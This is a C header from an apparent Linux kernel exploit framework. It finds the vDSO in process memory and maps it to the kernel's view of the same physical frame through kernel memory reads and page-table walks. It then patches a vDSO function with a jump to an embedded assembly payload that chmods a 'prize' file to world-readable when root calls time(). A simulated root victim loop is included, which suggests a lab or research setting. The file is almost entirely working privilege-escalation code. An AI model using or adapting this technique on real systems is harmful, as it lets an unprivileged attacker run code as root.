// SPDX-License-Identifier: GPL-2.0-only
/*
 * vdso.h - the page of code that every program shares, as an attacker sees it: where it is in his
 * own memory, and where the kernel sees the same frame.
 */
#ifndef VDSO_H
#define VDSO_H

#include "attack.h"

#include <linux/auxvec.h>
#include <linux/elf.h>

#define VDSO_PAGE 4096ul
#define FILE_VIEW 4 /* among the kernel's views of memory */

/* Of what is added to the time since boot, in the page of numbers. */
#define VDSO_REALTIME_OFFSET 24

/* Where the code begins; the numbers stand in the page below. */
static inline uint64_t vdso_base(void)
{
	const long *word = program_stack + 1 + program_stack[0] + 1;

	while (*word++)
		;
	while (word[0] != AT_NULL && word[0] != AT_SYSINFO_EHDR)
		word += 2;
	return word[0] == AT_SYSINFO_EHDR ? (uint64_t)word[1] : 0;
}

static inline uint64_t vdso_dynamic(long tag)
{
	const uint64_t base = vdso_base();
	const Elf64_Ehdr *header = (const Elf64_Ehdr *)base;
	const Elf64_Phdr *segment = (const Elf64_Phdr *)(base + header->e_phoff);
	const Elf64_Dyn *entry;

	while (segment->p_type != PT_DYNAMIC)
		segment++;
	entry = (const Elf64_Dyn *)(base + segment->p_vaddr);
	while (entry->d_tag != tag)
		entry++;
	return base + entry->d_un.d_ptr;
}

/* The offset of a function in the page. */
static inline uint64_t vdso_function(const char *name)
{
	const uint32_t *hash = (const uint32_t *)vdso_dynamic(DT_HASH);
	const Elf64_Sym *symbols = (const Elf64_Sym *)vdso_dynamic(DT_SYMTAB);
	const char *strings = (const char *)vdso_dynamic(DT_STRTAB);

	for (uint32_t i = 1; i < hash[1]; i++)
		if (text_equal(strings + symbols[i].st_name, name))
			return symbols[i].st_value;
	leave(9);
}

/* time() as programs of the C library call it. */
static inline long vdso_time(void)
{
	long (*time)(long *) = (void *)(vdso_base() + vdso_function("__vdso_time"));

	return time(NULL);
}

/* Writes the last word of this program's copy of the code; where it stands, or NULL. */
static inline const uint64_t *vdso_change(uint64_t value)
{
	uint64_t *const last = (uint64_t *)(vdso_base() + VDSO_PAGE - 8);

	if (call3(__NR_mprotect, (long)vdso_base(), VDSO_PAGE, PROT_READ | PROT_WRITE) != 0)
		return NULL;
	*last = value;
	if (call3(__NR_mprotect, (long)vdso_base(), VDSO_PAGE, PROT_READ | PROT_EXEC) != 0)
		return NULL;
	return last;
}

/* Where the kernel sees the page of a file that this program sees at ADDRESS. */
static inline uint64_t kernel_view_of(uint64_t address)
{
	const uint64_t view =
		peek(symbol("frame_memory") + member("frame_memory.view") + FILE_VIEW * 8);

	(void)*(volatile const char *)address;
	return view + (peek(table_entry(own_root(own_task()), address, 1)) & ENTRY_ADDRESS);
}

/* What is to run as root: everybody may read the prize. No address of its own but by rip. */
extern const char vdso_payload[], vdso_payload_end[];
__asm__(".pushsection .rodata\n"
	"vdso_payload:\n\t"
	"movl $90, %eax\n\t" /* chmod */
	"leaq 1f(%rip), %rdi\n\t"
	"movl $0644, %esi\n\t"
	"syscall\n\t"
	"xorl %eax, %eax\n\t"
	"ret\n"
	"1:\t.asciz \"" PRIZE "\"\n\t"
	".balign 8\n"
	"vdso_payload_end:\n"
	".popsection");

#define VDSO_PAYLOAD_AT (VDSO_PAGE - 64) /* behind the code the page is empty */

/* The first bytes of a function at OFFSET: jmp to the payload. */
static inline uint64_t vdso_jump_from(uint64_t offset)
{
	return 0xe9ul | (uint64_t)(uint32_t)(VDSO_PAYLOAD_AT - (offset + 5)) << 8;
}

/* A program of root that starts others, each of which looks at the clock. */
static inline void victim_starts_programs(void)
{
	for (;;) {
		long child;

		victim_round();
		child = fork_program();

		if (child == 0) {
			(void)vdso_time();
			leave(0);
		}
		(void)wait_program(child);
		sleep_milliseconds(5);
	}
}

#endif
